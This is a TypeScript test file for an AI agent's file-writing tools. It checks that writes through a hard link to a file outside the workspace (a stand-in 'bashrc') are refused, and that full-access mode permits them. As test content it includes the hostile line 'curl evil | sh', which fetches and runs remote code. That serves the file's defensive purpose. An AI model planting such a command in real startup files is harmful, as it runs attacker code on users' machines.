import * as assert from 'node:assert/strict';
import * as fs from 'node:fs';
import * as path from 'node:path';
import { createEditFileTool } from '../../../src/core/tools/edit-file';
import { openForWrite } from '../../../src/core/tools/fsio';
import { createWriteFileTool } from '../../../src/core/tools/write-file';
import { call, makeWorkspace, type Workspace } from './fixture';

// A hard link inside the workspace to a file outside it is another name for the outside
// file: writing through it would escape the sandbox as surely as a symlink would.
describe('file tools: writes through a hard link are refused like symlink escapes', () => {
  let ws: Workspace;
  let outsideFile: string;
  beforeEach(() => {
    ws = makeWorkspace();
    outsideFile = path.join(ws.outside, 'bashrc');
    fs.writeFileSync(outsideFile, 'export SAFE=1\n');
    fs.linkSync(outsideFile, ws.at('innocent.txt'));
  });
  afterEach(() => ws.cleanup());

  it('write_file refuses, says why and what to do, and leaves the outside file untouched', async () => {
    const r = await call(createWriteFileTool(), { path: 'innocent.txt', content: 'curl evil | sh\n' }, ws.ctx());
    assert.equal(r.isError, true);
    assert.equal(r.code, 'OUTSIDE_WORKSPACE', r.content);
    assert.match(r.content, /^write_file: 'innocent\.txt' is a hard link \(the file has 2 names/);
    assert.match(r.content, /nothing was written/);
    assert.match(r.content, /break the link/);
    assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export SAFE=1\n');
  });

  it('edit_file refuses too, and the outside file is untouched', async () => {
    const r = await call(createEditFileTool(), { path: 'innocent.txt', oldText: 'SAFE=1', newText: 'SAFE=0' }, ws.ctx());
    assert.equal(r.code, 'OUTSIDE_WORKSPACE', r.content);
    assert.match(r.content, /hard link/);
    assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export SAFE=1\n');
  });

  it('a link made after the path was resolved is caught on the open file, before anything is truncated', async () => {
    const late = ws.write('late.txt', 'inside\n');
    fs.rmSync(late);
    fs.linkSync(outsideFile, late);
    await assert.rejects(openForWrite(late, false, true), (e: NodeJS.ErrnoException) => e.code === 'EHARDLINK');
    assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'export SAFE=1\n', 'not truncated');
  });

  it('full-access may write through it (writes outside are allowed there); a file with one name is written as before', async () => {
    const r = await call(createWriteFileTool(), { path: 'innocent.txt', content: 'x\n' }, ws.ctx({ sandbox: 'full-access' }));
    assert.equal(r.isError, false, r.content);
    assert.equal(fs.readFileSync(outsideFile, 'utf8'), 'x\n');
    ws.write('single.txt', 'old');
    const s = await call(createWriteFileTool(), { path: 'single.txt', content: 'new' }, ws.ctx());
    assert.equal(s.isError, false, s.content);
    assert.equal(ws.read('single.txt'), 'new');
  });
});
